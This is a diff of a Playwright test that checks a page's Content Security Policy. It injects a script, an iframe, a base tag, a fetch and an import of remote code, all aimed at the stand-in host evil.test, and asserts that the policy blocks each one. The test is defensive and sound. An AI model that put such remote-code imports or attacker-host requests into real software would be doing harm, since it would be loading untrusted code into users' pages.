@@ -79,13 +79,14 @@ test.describe('the policy', () => {
       };
       document.addEventListener('securitypolicyviolation', (event) => note(event.effectiveDirective));
       const script = document.createElement('script');
-      script.textContent = 'window.ran = true';
+      script.append('window.ran = true');
       const frame = document.createElement('iframe');
       frame.src = 'https://evil.test/';
       const base = document.createElement('base');
       base.href = 'https://evil.test/';
       document.body.append(script, frame, base);
       await fetch('https://evil.test/').catch(() => undefined);
+      await import('https://evil.test/module.js' as string).catch(() => undefined);
       try {
         new Worker(URL.createObjectURL(new Blob(['']))).terminate();
       } catch {
@@ -94,7 +95,7 @@ test.describe('the policy', () => {
       return 'ran' in window;
     });
     expect(ran).toBe(false);
-    const stopped = ['base-uri', 'connect-src', 'frame-src', 'script-src-elem', 'worker-src'];
+    const stopped = ['base-uri', 'connect-src', 'frame-src', 'require-trusted-types-for', 'script-src-elem', 'worker-src'];
     await expect
       .poll(async () => (await page.locator('body').getAttribute('data-violated'))?.split(' '))
       .toEqual(expect.arrayContaining(stopped));
